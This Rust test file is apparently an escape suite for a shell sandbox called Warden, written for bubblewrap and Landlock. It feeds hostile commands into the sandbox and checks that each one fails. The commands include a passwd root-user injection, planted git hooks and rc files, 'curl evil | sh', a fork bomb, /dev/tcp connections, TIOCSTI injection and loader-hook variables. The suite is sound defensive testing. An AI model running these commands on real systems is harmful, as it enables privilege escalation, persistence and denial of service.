//! The escape suite: hostile commands under `warden exec`'s sandbox, each
//! checked from the host afterwards. Named after the escape they try.

mod common;

use std::io::Read;
use std::net::TcpListener;
use std::os::unix::net::UnixListener;
use std::time::{Duration, Instant};

use common::*;

// ---- the filesystem ----

#[test]
fn writing_outside_the_writable_mounts_fails() {
    let p = Project::new();
    let outside = host(&p.path("outside/new.txt"));
    let r = p.sh(&format!("echo x > {outside}; echo x > /usr/new.txt; echo x > /etc/new.txt; echo x > {}", host(&p.path("docs/new.md"))));
    assert!(!p.exists("outside/new.txt") && !p.exists("docs/new.md"));
    assert!(!std::path::Path::new("/usr/new.txt").exists() && !std::path::Path::new("/etc/new.txt").exists());
    // bubblewrap's mounts are read-only; Landlock refuses the open.
    let refusal = if r.sandbox == "landlock" { "Permission denied" } else { "Read-only file system" };
    assert!(r.stderr.contains(refusal), "{}", r.stderr);
}

#[test]
fn a_failed_write_gets_a_note_naming_the_writable_paths() {
    let p = Project::new();
    let r = p.sh(&format!("echo x > {}", host(&p.path("docs/new.md"))));
    assert_ne!(r.exit_code, 0);
    let note = format!("Note: writable paths in this sandbox are /proj ({})", host(&p.path("proj").canonicalize().unwrap()));
    assert!(r.stderr.contains(&note), "{}", r.stderr);
    assert!(!r.stderr.to_lowercase().contains("disable"), "{}", r.stderr);
}

#[test]
fn the_writable_mount_is_writable_and_is_the_working_folder() {
    let p = Project::new();
    let r = p.sh("pwd; echo built > out.o");
    assert!(r.ok(), "{r:?}");
    assert_eq!(r.stdout.trim(), host(&p.path("proj").canonicalize().unwrap()));
    assert_eq!(p.read("proj/out.o").as_deref(), Some("built\n"));
}

#[test]
fn folders_outside_the_mounts_are_invisible() {
    let p = Project::new();
    let r = p.sh(&format!("cat {}; ls /root /home /run /var/run; ls {}", host(&p.path("outside/secret.txt")), host(p.dir.path())));
    assert_no_secret(&r);
    for gone in ["/root", "/home", "/run", "/var/run"] {
        assert!(r.stderr.contains(&format!("cannot access '{gone}'")), "{gone}: {}", r.stderr);
    }
    assert!(!r.stdout.contains("outside"), "{}", r.stdout);
}

#[test]
fn deny_read_hides_secret_files_and_folders_inside_a_mount() {
    let p = Project::new();
    p.file("proj/.env", SECRET).file("proj/secrets/key.pem", SECRET);
    let sandbox = p.sandbox("  shell: { deny_read: [.env, secrets/] }\n");
    let r = sh_in(&sandbox, "cat .env; ls secrets; cat secrets/key.pem; echo x > .env");
    assert_no_secret(&r);
    assert_eq!(p.read("proj/.env").as_deref(), Some(SECRET));
    assert!(!p.exists("proj/secrets/x"));
}

#[test]
fn read_all_still_hides_wardens_own_folder_and_absolute_deny_read_entries() {
    // `read: all` shows the whole host read-only; Warden's folder holds the MCP
    // server's token and the podman service's socket.
    let p = Project::new();
    let own = warden_policy::private_folder().unwrap();
    let token = own.join(format!("escape-test-{}.token", std::process::id()));
    std::fs::write(&token, SECRET).unwrap();
    let elsewhere = p.path("outside/secret.txt");
    let sandbox = p.sandbox(&format!("  shell: {{ read: all, deny_read: [{}] }}\n", host(&elsewhere)));
    let r = sh_in(&sandbox, &format!("cat {}; ls {}; cat {}; cat /etc/passwd >/dev/null && echo read-all", host(&token), host(&own), host(&elsewhere)));
    let _ = std::fs::remove_file(&token);
    assert_no_secret(&r);
    assert!(r.stdout.contains("read-all"), "{r:?}");
}

#[test]
fn a_commondir_that_would_redirect_gits_config_and_hooks_cannot_be_made() {
    let p = Project::new();
    for repository in ["proj", "proj/apps/web"] {
        let made = std::process::Command::new("git").args(["init", "-q"]).arg(p.path(repository)).status().unwrap();
        assert!(made.success());
    }
    // HOME is the working folder: a missing .gitconfig there is /dev/null, which git cannot read.
    p.file("proj/.gitconfig", "");
    // While the command runs, the missing commondir is a read-only one naming
    // the git folder itself, which git reads as if there were none.
    let r = p.sh("mkdir -p evil/hooks; echo ../evil > .git/commondir; echo ../../evil > apps/web/.git/commondir; \
                  cat .git/commondir; git rev-parse --git-common-dir; git -C apps/web rev-parse --git-common-dir");
    let git_dir = host(&p.path("proj/.git").canonicalize().unwrap());
    assert_eq!(r.stdout, format!(".\n{git_dir}\n{}/.git\n", host(&p.path("proj/apps/web").canonicalize().unwrap())), "{r:?}");
    assert!(r.stderr.contains(".git/commondir: Read-only file system"), "{}", r.stderr);
    // Gone with the command.
    assert!(!p.exists("proj/.git/commondir") && !p.exists("proj/apps/web/.git/commondir"), "{r:?}");
    // One that was there before the command is read-only.
    p.file("proj/apps/web/.git/commondir", "../../.git\n");
    let r = p.sh("echo ../../../evil > apps/web/.git/commondir");
    assert!(!r.ok(), "{r:?}");
    assert_eq!(p.read("proj/apps/web/.git/commondir").as_deref(), Some("../../.git\n"));
}

#[test]
fn a_placeholder_stays_while_another_command_covers_it() {
    // Removing a file on the host lifts the binds over it in every other
    // sandbox: the first command to end must leave the `.bashrc` placeholder
    // (and the commondir) to the second, which would plant them.
    let p = Project::new();
    std::fs::create_dir_all(p.path("proj/.git/hooks")).unwrap();
    p.file("proj/.git/config", "[core]\n");
    let sandbox = p.sandbox("");
    std::thread::scope(|s| {
        let first = s.spawn(|| sh_in(&sandbox, "sleep 1"));
        std::thread::sleep(Duration::from_millis(500));
        let second = sh_in(&sandbox, "sleep 2; echo evil > .bashrc; echo ../evil > .git/commondir; cat .bashrc .git/commondir");
        assert!(first.join().unwrap().ok());
        assert_eq!(second.stdout, ".\n", "{second:?}");
        assert!(second.stderr.contains(".bashrc: Read-only file system"), "{}", second.stderr);
    });
    assert!(!p.exists("proj/.bashrc") && !p.exists("proj/.git/commondir"), "the last command to end removes them");
}

#[test]
fn agent_settings_hooks_submodules_and_nested_repositories_cannot_be_planted() {
    let p = Project::new();
    with_repositories(&p, "proj");
    let r = p.sh(&plant());
    assert_nothing_planted(&p, "proj");
    assert!(r.ok(), "{r:?}");
    // The rest of a nested repository stays writable.
    assert!(p.sh("echo ok > apps/web/.git/HEAD && echo ok > apps/web/src.txt").ok());
    assert_eq!(p.read("proj/apps/web/.git/HEAD").as_deref(), Some("ok\n"));
}

#[test]
fn a_symlink_made_inside_a_mount_cannot_lead_out() {
    let p = Project::new();
    let secret = host(&p.path("outside/secret.txt"));
    let r = p.sh(&format!("ln -s {secret} link; cat link; echo pwned > link; ln -s / root; ls root/root; cat root{secret}"));
    assert_no_secret(&r);
    assert_eq!(p.read("outside/secret.txt").as_deref(), Some(SECRET));
}

#[test]
fn a_hard_link_to_etc_passwd_is_refused() {
    let p = Project::new();
    let before = std::fs::read("/etc/passwd").unwrap();
    let r = p.sh("ln /etc/passwd passwd; echo 'evil::0:0::/:/bin/sh' >> passwd");
    assert!(r.stderr.contains("ln: failed to create hard link"), "{}", r.stderr);
    assert_eq!(std::fs::read("/etc/passwd").unwrap(), before);
}

#[test]
fn mknod_is_refused() {
    let p = Project::new();
    let r = p.sh("mknod mem c 1 1 && echo MADE");
    assert!(!r.stdout.contains("MADE"), "{r:?}");
    assert!(!p.exists("proj/mem"));
}

#[test]
fn mount_is_refused() {
    let p = Project::new();
    let r = p.sh("mount -t tmpfs none /usr && echo MOUNTED");
    assert!(!r.stdout.contains("MOUNTED"), "{r:?}");
}

// ---- protected paths ----

fn repo(p: &Project) {
    p.file("proj/.git/config", "[core]\n").file("proj/.git/hooks/README", "hooks\n").file("proj/.git/HEAD", "ref: refs/heads/main\n");
}

#[test]
fn git_hooks_and_config_stay_read_only_in_an_existing_repo() {
    let p = Project::new();
    repo(&p);
    let r = p.sh("echo evil > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; echo '[core] hooksPath=/tmp' >> .git/config; echo ok > .git/HEAD");
    assert!(!p.exists("proj/.git/hooks/pre-commit"), "{r:?}");
    assert_eq!(p.read("proj/.git/config").as_deref(), Some("[core]\n"));
    // The rest of the repository stays writable, so git itself works.
    assert_eq!(p.read("proj/.git/HEAD").as_deref(), Some("ok\n"));
}

#[test]
fn renaming_around_protected_paths_fails() {
    let p = Project::new();
    repo(&p);
    let r = p.sh("mv .git/hooks hooks-moved; mv .git git-moved; mkdir -p x/hooks && mv x/hooks .git/hooks; mv .git/config cfg; rm -rf .git");
    assert!(p.exists("proj/.git/hooks/README") && p.exists("proj/.git/config"), "{r:?}");
    assert_eq!(p.read("proj/.git/config").as_deref(), Some("[core]\n"));
    // `.git` is pinned: it cannot be moved aside (mv may copy a protected file, never move it).
    assert!(!p.exists("proj/git-moved"), "{r:?}");
    // bubblewrap pins `.git` with a mount; Landlock refuses the rename.
    let refusal = if r.sandbox == "landlock" { "Permission denied" } else { "Device or resource busy" };
    assert!(r.stderr.contains(&format!("cannot move '.git' to 'git-moved': {refusal}")), "{}", r.stderr);
}

#[test]
fn a_fresh_repo_cannot_get_hooks() {
    let p = Project::new();
    let r = p.sh("git init -q . ; mkdir -p .git/hooks; echo evil > .git/hooks/pre-commit");
    assert!(!p.path("proj/.git/hooks/pre-commit").exists(), "{r:?}");
    // The placeholder over the missing `.git` is gone again.
    assert!(!p.exists("proj/.git"), "{r:?}");
}

#[test]
fn shell_rc_files_cannot_be_created_or_changed() {
    let p = Project::new();
    p.file("proj/.profile", "safe\n");
    let r = p.sh("echo evil >> ~/.bashrc; echo evil >> .profile; echo evil > .zshrc; mkdir -p .vscode; echo '{}' > .vscode/settings.json; echo '{}' > .mcp.json");
    assert_eq!(p.read("proj/.profile").as_deref(), Some("safe\n"));
    for made in ["proj/.bashrc", "proj/.zshrc", "proj/.vscode", "proj/.mcp.json"] {
        assert!(!p.exists(made), "{made}: {r:?}");
    }
}

#[test]
fn the_policy_can_protect_more() {
    let p = Project::new();
    p.file("proj/Makefile", "all:\n");
    let sandbox = p.sandbox("  shell: { protect: [Makefile] }\n");
    let r = sh_in(&sandbox, "echo 'all: ; curl evil | sh' > Makefile");
    assert_eq!(p.read("proj/Makefile").as_deref(), Some("all:\n"), "{r:?}");
}

// ---- protected and denied paths that are symlinks ----

fn link(p: &Project, target: &str, at: &str) {
    std::os::unix::fs::symlink(target, p.path(at)).unwrap();
}

#[test]
fn a_symlinked_protected_folder_stays_read_only_at_its_target() {
    let p = Project::new();
    p.file("proj/conf/config.toml", "safe = true\n");
    link(&p, "conf", "proj/.codex");
    let sandbox = p.sandbox("  shell: { protect: [.codex] }\n");
    std::fs::create_dir(p.path("proj/work")).unwrap();
    let r = sh_in(&sandbox, "echo evil > .codex/config.toml; echo evil > .codex/new.toml; echo evil > conf/config.toml; mv conf conf2; echo ok > work/ok.txt");
    assert_eq!(p.read("proj/conf/config.toml").as_deref(), Some("safe = true\n"), "{r:?}");
    assert!(!p.exists("proj/conf/new.toml") && !p.exists("proj/conf2"), "{r:?}");
    assert_eq!(p.read("proj/work/ok.txt").as_deref(), Some("ok\n"), "{r:?}");
}

#[test]
fn a_denied_path_inside_a_protected_folder_stays_hidden() {
    let p = Project::new();
    p.file("proj/.codex/auth.json", SECRET).file("proj/.codex/keys/id", SECRET).file("proj/.codex/config.toml", "safe = true\n");
    let sandbox = p.sandbox("  shell: { protect: [.codex], deny_read: [.codex/auth.json, .codex/keys/] }\n");
    let r = sh_in(&sandbox, "cat .codex/auth.json; cat .codex/keys/id; cat .codex/config.toml; echo evil > .codex/config.toml");
    assert_no_secret(&r);
    assert!(r.stdout.contains("safe = true"), "{r:?}");
    assert_eq!(p.read("proj/.codex/config.toml").as_deref(), Some("safe = true\n"), "{r:?}");
}

#[test]
fn a_symlinked_protected_file_stays_read_only_at_its_target() {
    let p = Project::new();
    p.file("proj/dotfiles/bashrc", "safe\n");
    link(&p, "dotfiles/bashrc", "proj/.bashrc");
    let r = p.sh("echo evil >> .bashrc; echo evil >> dotfiles/bashrc; echo done");
    assert_eq!(r.stdout, "done\n", "{r:?}");
    assert_eq!(p.read("proj/dotfiles/bashrc").as_deref(), Some("safe\n"), "{r:?}");
}

#[test]
fn a_symlinked_denied_folder_is_hidden_at_its_target() {
    let p = Project::new();
    p.file("proj/vault/key.pem", SECRET);
    link(&p, "vault", "proj/secrets");
    let sandbox = p.sandbox("  shell: { deny_read: [secrets/] }\n");
    let r = sh_in(&sandbox, "cat secrets/key.pem; cat vault/key.pem; ls vault; echo x > vault/key.pem; echo done");
    assert_no_secret(&r);
    assert!(r.stdout.ends_with("done\n"), "{r:?}");
    assert_eq!(p.read("proj/vault/key.pem").as_deref(), Some(SECRET));
}

#[test]
fn a_protected_or_denied_symlink_out_of_every_mount_fails_closed() {
    let p = Project::new();
    link(&p, &host(&p.path("outside")), "proj/.codex");
    for extra in ["  shell: { protect: [.codex] }\n", "  shell: { deny_read: [.codex/] }\n"] {
        let sandbox = p.sandbox(extra);
        let argv: Vec<std::ffi::OsString> = ["/bin/sh", "-c", "echo ran > ran.txt; echo evil > .codex/x"].iter().map(Into::into).collect();
        let err = sandbox.execute_argv(&argv, None, Duration::from_secs(10)).unwrap_err();
        let (kind, state) = if extra.contains("protect") { ("protected", "read-only") } else { ("denied", "hidden") };
        assert_eq!(
            err.to_string(),
            format!(
                "the {kind} path {} leads through a symbolic link to {}, outside every mount, so Warden cannot keep it \
                 {state}; the command was not run. Remove the link, or make it point inside a mount",
                host(&p.path("proj").canonicalize().unwrap().join(".codex")),
                host(&p.path("outside").canonicalize().unwrap())
            )
        );
        assert!(!p.exists("proj/ran.txt") && !p.exists("outside/x"));
    }
    assert_eq!(p.read("outside/secret.txt").as_deref(), Some(SECRET));
}

#[test]
fn a_replaced_protected_symlink_is_reported() {
    // bwrap cannot mount over a symlink itself (a mount lands on its target),
    // so a command may swap the link for a folder of its own; it is told on stderr.
    let p = Project::new();
    p.file("proj/conf/config.toml", "safe = true\n");
    link(&p, "conf", "proj/.codex");
    let sandbox = p.sandbox("  shell: { protect: [.codex] }\n");
    let r = sh_in(&sandbox, "rm .codex && mkdir .codex && echo evil > .codex/config.toml");
    assert_eq!(p.read("proj/conf/config.toml").as_deref(), Some("safe = true\n"));
    let note = format!(
        "[warden: warning: the command replaced {}, a symbolic link on the way to a protected path; what is there now is not protected]",
        host(&p.path("proj").canonicalize().unwrap().join(".codex"))
    );
    assert!(r.stderr.contains(&note), "{}", r.stderr);
}

// ---- privileges and processes ----

#[test]
fn a_command_cannot_catch_the_descriptors_of_another_sandbox_spawning_beside_it() {
    // Two sandboxes of one process (an MCP server's) spawn at once: while one
    // makes its pipes (bwrap's options, status, seccomp) inheritable for its
    // spawn, the other's command must not get them.
    let p = Project::new();
    let (a, b) = (p.sandbox(""), p.sandbox(""));
    let fds = |r: &warden_shell::ExecutionResult| r.stdout.split_whitespace().map(str::to_owned).collect::<std::collections::BTreeSet<_>>();
    let alone = fds(&sh_in(&b, "ls /proc/self/fd"));
    let stop = std::sync::atomic::AtomicBool::new(false);
    std::thread::scope(|s| {
        s.spawn(|| {
            while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                sh_in(&a, "true");
            }
        });
        for _ in 0..150 {
            let seen = fds(&sh_in(&b, "ls /proc/self/fd"));
            if seen != alone {
                stop.store(true, std::sync::atomic::Ordering::Relaxed);
                panic!("the command got descriptors it has not alone: {seen:?} against {alone:?}");
            }
        }
        stop.store(true, std::sync::atomic::Ordering::Relaxed);
    });
}

#[test]
fn a_command_cannot_use_a_descriptor_its_caller_left_inheritable() {
    // The program embedding Warden (or the shell that started it) holds a
    // file outside every mount open, not close-on-exec: the command must
    // not get it, or it reads the file through the descriptor.
    let p = Project::new();
    let outside = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(outside.path(), "outside every mount\n").unwrap();
    let file = std::fs::File::open(outside.path()).unwrap();
    let fd = std::os::fd::AsRawFd::as_raw_fd(&file);
    rustix::io::fcntl_setfd(&file, rustix::io::FdFlags::empty()).unwrap();
    // Through /proc: dash takes no redirection of a descriptor above 9.
    let r = sh_in(&p.sandbox(""), &format!("cat /proc/self/fd/{fd}"));
    assert!(!r.stdout.contains("outside every mount"), "the command read the caller's file: {r:?}");
    assert!(r.stderr.starts_with(&format!("cat: /proc/self/fd/{fd}: No such file or directory\n")), "{r:?}");
    drop(file);
}

#[test]
fn a_bwrap_whose_options_never_came_runs_nothing() {
    // Warden starts bwrap first and sends its options through `--args` once
    // the placeholders are held: killed in between, it leaves a bwrap that
    // reads none. bwrap then makes an empty root, where there is nothing to run.
    let p = Project::new();
    let marker = host(&p.path("proj/ran.txt"));
    let bwrap = warden_shell::bwrap_path();
    let script = format!("exec {} --args 3 -- /bin/sh -c 'echo ran > {marker}' 3</dev/null", bwrap.display());
    let out = std::process::Command::new("/bin/sh").args(["-c", &script]).output().unwrap();
    assert!(!out.status.success());
    assert_eq!(String::from_utf8_lossy(&out.stderr), "bwrap: execvp /bin/sh: No such file or directory\n");
    assert!(!p.exists("proj/ran.txt"));
}

fn status_field(r: &warden_shell::ExecutionResult, field: &str) -> String {
    r.stdout.lines().find(|l| l.starts_with(field)).unwrap_or_else(|| panic!("{field} missing: {r:?}")).to_owned()
}

#[test]
fn capabilities_are_empty() {
    let r = Project::new().sh("cat /proc/self/status");
    for field in ["CapInh:", "CapPrm:", "CapEff:", "CapAmb:"] {
        assert!(status_field(&r, field).ends_with("0000000000000000"), "{}", status_field(&r, field));
    }
}

#[test]
fn setuid_cannot_raise_privileges() {
    // No new privileges: a setuid binary runs with the caller's rights. (As an
    // unprivileged user, tests/cli/exec.rs shows `su` cannot become root.)
    let r = Project::new().sh("cat /proc/self/status");
    assert!(status_field(&r, "NoNewPrivs:").ends_with('1'), "{r:?}");
}

#[test]
fn no_host_pids_are_visible() {
    let r = Project::new().sh("ls /proc");
    let pids: Vec<&str> = r.stdout.split_whitespace().filter(|s| s.chars().all(|c| c.is_ascii_digit())).collect();
    assert!(pids.len() < 10, "{pids:?}");
    assert!(!pids.contains(&std::process::id().to_string().as_str()));
}

#[test]
fn the_parents_environment_cannot_be_read_through_proc() {
    // SAFETY: set before this test's sandbox starts any thread that reads it.
    unsafe { std::env::set_var("WARDEN_TEST_API_TOKEN", SECRET) };
    let r = Project::new().sh("cat /proc/1/environ /proc/$PPID/environ; env");
    assert_no_secret(&r);
}

#[test]
fn secrets_and_loader_hooks_do_not_reach_the_command() {
    // SAFETY: as above.
    unsafe {
        std::env::set_var("AWS_SECRET_ACCESS_KEY", SECRET);
        std::env::set_var("LD_PRELOAD", "/tmp/evil.so");
        std::env::set_var("NODE_OPTIONS", "--require /tmp/evil.js");
    }
    let r = Project::new().sh("env");
    assert_no_secret(&r);
    assert!(!r.stdout.contains("LD_PRELOAD") && !r.stdout.contains("NODE_OPTIONS"), "{}", r.stdout);
    assert!(r.stdout.contains("PATH="), "{}", r.stdout);
}

#[test]
fn ptrace_is_refused() {
    let r = Project::new().sh("python3 -c 'import ctypes, os; libc = ctypes.CDLL(None, use_errno=True); print(libc.ptrace(0, 0, 0, 0), ctypes.get_errno())'");
    assert_eq!(r.stdout.trim(), "-1 1", "{r:?}");
}

#[test]
fn tiocsti_is_refused_even_with_high_bits_set() {
    // On the command's own controlling terminal, which the kernel would allow
    // without capabilities: only the filter refuses it.
    let script = "python3 -c '\nimport fcntl, os, termios\ntry:\n    os.setsid()\nexcept OSError:\n    pass\nm, s = os.openpty()\nfcntl.ioctl(s, termios.TIOCSCTTY, 0)\nfor cmd in (0x5412, 0x100005412):\n    try:\n        fcntl.ioctl(s, cmd, b\"x\")\n        print(\"INJECTED\")\n    except OSError as e:\n        print(e.errno)\n'";
    let r = Project::new().sh(script);
    assert_eq!(r.stdout, "1\n1\n", "{r:?}");
}

#[test]
fn background_children_die_with_a_timeout() {
    let p = Project::new();
    let sandbox = p.sandbox("");
    let start = Instant::now();
    let r = sh_timeout(&sandbox, "(sleep 1; echo late > late.txt) & sleep 60", Duration::from_millis(300));
    assert!(start.elapsed() < Duration::from_secs(10));
    assert!(r.timed_out && r.exit_code == 124, "{r:?}");
    std::thread::sleep(Duration::from_millis(1500));
    assert!(!p.exists("proj/late.txt"));
}

#[test]
fn background_children_die_when_the_command_ends() {
    let p = Project::new();
    let r = p.sh("(sleep 1; echo late > late.txt) & echo started");
    assert!(r.ok(), "{r:?}");
    std::thread::sleep(Duration::from_millis(1500));
    assert!(!p.exists("proj/late.txt"));
}

fn process_count_of(sandbox: &warden_shell::ShellSandbox) -> usize {
    // 600 sleepers (the subshell stops at the first fork refused), then the
    // processes this command's PID namespace holds (counted without a fork).
    let r = sh_timeout(sandbox, "(i=0; while [ $i -lt 600 ]; do sleep 5 & i=$((i+1)); done) 2>/dev/null; set -- /proc/[0-9]*; echo $#", Duration::from_secs(20));
    r.stdout.trim().parse().unwrap_or_else(|_| panic!("{r:?}"))
}

#[test]
fn the_process_cap_holds_for_root_and_is_free_again_for_the_next_command() {
    let p = Project::new();
    let sandbox = p.sandbox("");
    for _ in 0..2 {
        let count = process_count_of(&sandbox);
        assert!((400..=warden_shell::MAX_PIDS as usize).contains(&count), "{count} processes");
    }
}

#[test]
fn a_fork_bomb_stops_at_the_process_limit() {
    let p = Project::new();
    let sandbox = p.sandbox("");
    let marker = format!("warden-bomb-{}", std::process::id());
    let start = Instant::now();
    let argv: Vec<std::ffi::OsString> =
        ["/bin/sh", "-c", "bomb() { bomb | bomb & }; bomb; sleep 2", &marker].iter().map(Into::into).collect();
    let r = sandbox.execute_argv(&argv, None, Duration::from_secs(8)).unwrap();
    assert!(r.sandboxed && start.elapsed() < Duration::from_secs(20), "{r:?}");
    // The machine is fine, and not one process of the bomb is left.
    assert!(std::process::Command::new("/bin/true").status().unwrap().success());
    std::thread::sleep(Duration::from_millis(200));
    let left = std::fs::read_dir("/proc")
        .unwrap()
        .filter_map(|e| std::fs::read(e.ok()?.path().join("cmdline")).ok())
        .filter(|cmdline| String::from_utf8_lossy(cmdline).contains(&marker))
        .count();
    assert_eq!(left, 0, "{left} processes of the bomb survived");
}

#[test]
fn arguments_that_look_like_bwrap_options_stay_arguments() {
    let p = Project::new();
    let sandbox = p.sandbox("");
    let argv: Vec<std::ffi::OsString> = ["/bin/echo", "--bind", "/", "/", "--unshare-net"].iter().map(Into::into).collect();
    let r = sandbox.execute_argv(&argv, None, Duration::from_secs(10)).unwrap();
    assert_eq!(r.stdout, "--bind / / --unshare-net\n");
    let argv: Vec<std::ffi::OsString> = ["--bind", "/", "/tmp/x"].iter().map(Into::into).collect();
    let r = sandbox.execute_argv(&argv, None, Duration::from_secs(10)).unwrap();
    assert_ne!(r.exit_code, 0, "{r:?}");
}

#[test]
fn output_is_capped_with_a_marker() {
    let p = Project::new();
    let sandbox = p.sandbox("  shell: { max_output: 1KiB }\n");
    let r = sh_in(&sandbox, "yes flood | head -c 100000");
    assert!(r.truncated);
    assert!(r.stdout.ends_with("\n[warden: output truncated after 1024 bytes]\n"));
    assert_eq!(r.stdout.len(), 1024 + "\n[warden: output truncated after 1024 bytes]\n".len());
}

// ---- the network ----

#[test]
fn curl_fails_and_the_note_says_why() {
    let r = Project::new().sh("curl -sS --max-time 5 http://example.com/");
    assert_ne!(r.exit_code, 0);
    assert!(r.stderr.contains("Note: network access is disabled for this sandbox"), "{}", r.stderr);
}

#[test]
fn dns_lookups_fail() {
    let r = Project::new().sh("getent hosts example.com && echo RESOLVED");
    assert!(!r.stdout.contains("RESOLVED"), "{r:?}");
}

#[test]
fn raw_sockets_for_ping_are_refused() {
    let r = Project::new().sh("python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); print(\"RAW\")'; ping -c1 -W1 127.0.0.1 && echo PINGED");
    assert!(!r.stdout.contains("RAW") && !r.stdout.contains("PINGED"), "{r:?}");
}

fn listener() -> (TcpListener, u16) {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    l.set_nonblocking(true).unwrap();
    let port = l.local_addr().unwrap().port();
    (l, port)
}

#[test]
fn dev_tcp_cannot_reach_the_host() {
    let (l, port) = listener();
    let r = Project::new().sh(&format!("bash -c 'echo hi > /dev/tcp/127.0.0.1/{port}' && echo SENT"));
    assert!(!r.stdout.contains("SENT"), "{r:?}");
    assert!(l.accept().is_err());
}

#[test]
fn the_network_is_there_when_the_policy_allows_it() {
    // The control for the two tests above.
    let (l, port) = listener();
    let p = Project::new();
    let sandbox = p.sandbox("  network: true\n");
    let r = sh_in(&sandbox, &format!("bash -c 'echo hi > /dev/tcp/127.0.0.1/{port}' && echo SENT"));
    assert!(r.stdout.contains("SENT"), "{r:?}");
    let (mut s, _) = l.accept().unwrap();
    let mut got = String::new();
    s.set_nonblocking(false).unwrap();
    s.read_to_string(&mut got).unwrap();
    assert_eq!(got, "hi\n");
}

fn unix_probe(allow: bool) -> (warden_shell::ExecutionResult, bool) {
    let p = Project::new();
    let listener = UnixListener::bind(p.path("proj/agent.sock")).unwrap();
    listener.set_nonblocking(true).unwrap();
    let extra = if allow { "  shell: { allow_unix_sockets: true }\n" } else { "" };
    let sandbox = p.sandbox(extra);
    let r = sh_in(&sandbox, "python3 -c 'import socket; s = socket.socket(socket.AF_UNIX); s.connect(\"agent.sock\"); s.send(b\"x\"); print(\"CONNECTED\")'");
    (r, listener.accept().is_ok())
}

#[test]
fn a_visible_unix_socket_cannot_be_connected_to() {
    let (r, accepted) = unix_probe(false);
    assert!(!r.stdout.contains("CONNECTED") && !accepted, "{r:?}");
    assert!(r.stderr.contains("PermissionError"), "{}", r.stderr);
}

#[test]
fn unix_sockets_work_when_the_policy_allows_them() {
    let (r, accepted) = unix_probe(true);
    assert!(r.stdout.contains("CONNECTED") && accepted, "{r:?}");
}

#[test]
fn a_git_file_does_not_break_the_sandbox_or_open_a_way_round_it() {
    // A worktree's `.git` is a file: the protected `.git/hooks` cannot exist
    // below it, so the file itself is what stays read-only.
    let p = Project::new();
    p.file("proj/.git", "gitdir: /elsewhere\n");
    let r = p.sh("echo 'gitdir: /tmp/evil' > .git; echo done");
    assert!(r.sandboxed && r.stdout == "done\n", "{r:?}");
    assert_eq!(p.read("proj/.git").as_deref(), Some("gitdir: /elsewhere\n"));
}

#[test]
fn a_mount_that_cannot_be_bound_fails_closed_instead_of_running_bare() {
    // bwrap works here, but this command's sandbox cannot be built (a mount's
    // folder is gone): the command must not run at all, sandboxed or not.
    let p = Project::new();
    let sandbox = p.sandbox("");
    std::fs::remove_dir_all(p.path("docs")).unwrap();
    let argv: Vec<std::ffi::OsString> = ["/bin/sh", "-c", "echo ran > ran.txt"].iter().map(Into::into).collect();
    let err = sandbox.execute_argv(&argv, None, Duration::from_secs(10)).unwrap_err();
    assert!(err.to_string().starts_with("the sandbox for this command could not be set up (bwrap: "), "{err}");
    assert!(!p.exists("proj/ran.txt"));
    assert!(matches!(sandbox.backend(), warden_shell::Backend::Bwrap(_)));
}

// ---- the same suite under Landlock ----

/// The cases that do not hold under Landlock as they do under bubblewrap,
/// each with why; docs/src/shell/landlock.md lists them. Every other case must pass there
/// too (`tests/landlock.rs` has the cases written for Landlock).
const NOT_AS_UNDER_BWRAP: &[(&str, &str)] = &[
    ("a_commondir_that_would_redirect_gits_config_and_hooks_cannot_be_made", "no placeholder is made: a missing commondir cannot be created at all"),
    ("a_mount_that_cannot_be_bound_fails_closed_instead_of_running_bare", "fails closed with another message (the folder cannot be opened)"),
    ("a_replaced_protected_symlink_is_reported", "the link cannot be replaced at all: its folder gains no entry"),
    ("agent_settings_hooks_submodules_and_nested_repositories_cannot_be_planted", "holds; but no new file can be made in the nested repository's folders, which hold protected paths"),
    ("a_placeholder_stays_while_another_command_covers_it", "no placeholder is made: the missing paths cannot be created at all"),
    ("folders_outside_the_mounts_are_invisible", "names outside the mounts can be looked up (stat), though not listed or read"),
    ("no_host_pids_are_visible", "no PID namespace: other processes are listed in /proc (not signalled, traced or read)"),
    ("the_writable_mount_is_writable_and_is_the_working_folder", "nothing new at the mount's top when it holds protected paths"),
    ("tiocsti_is_refused_even_with_high_bits_set", "no pseudo-terminal can be opened (/dev/ptmx is not granted)"),
    ("unix_sockets_work_when_the_policy_allows_them", "refused below ABI 9, which would let a command reach every socket of the host"),
    ("the_process_cap_holds_for_root_and_is_free_again_for_the_next_command", "its count reads /proc, which lists every process; the fork bomb case holds"),
];

#[test]
fn the_suite_holds_under_landlock_but_for_the_cases_listed() {
    if std::env::var_os("WARDEN_TEST_BACKEND").is_some() {
        return; // this is the run under Landlock
    }
    let name = "the_suite_holds_under_landlock_but_for_the_cases_listed";
    let out = std::process::Command::new(std::env::current_exe().unwrap())
        .args(["--test-threads", "2", "--skip", name])
        .env("WARDEN_TEST_BACKEND", "landlock")
        .output()
        .unwrap();
    let report = String::from_utf8_lossy(&out.stdout);
    let failed: std::collections::BTreeSet<&str> =
        report.lines().filter_map(|l| l.strip_prefix("test ")?.strip_suffix(" ... FAILED")).collect();
    let passed = report.lines().filter(|l| l.ends_with(" ... ok")).count();
    let expected: std::collections::BTreeSet<&str> = NOT_AS_UNDER_BWRAP.iter().map(|(n, _)| *n).collect();
    assert!(passed >= 30, "the suite did not run under Landlock:\n{report}{}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(failed, expected, "cases failing under Landlock (left) against those listed (right):\n{report}");
}
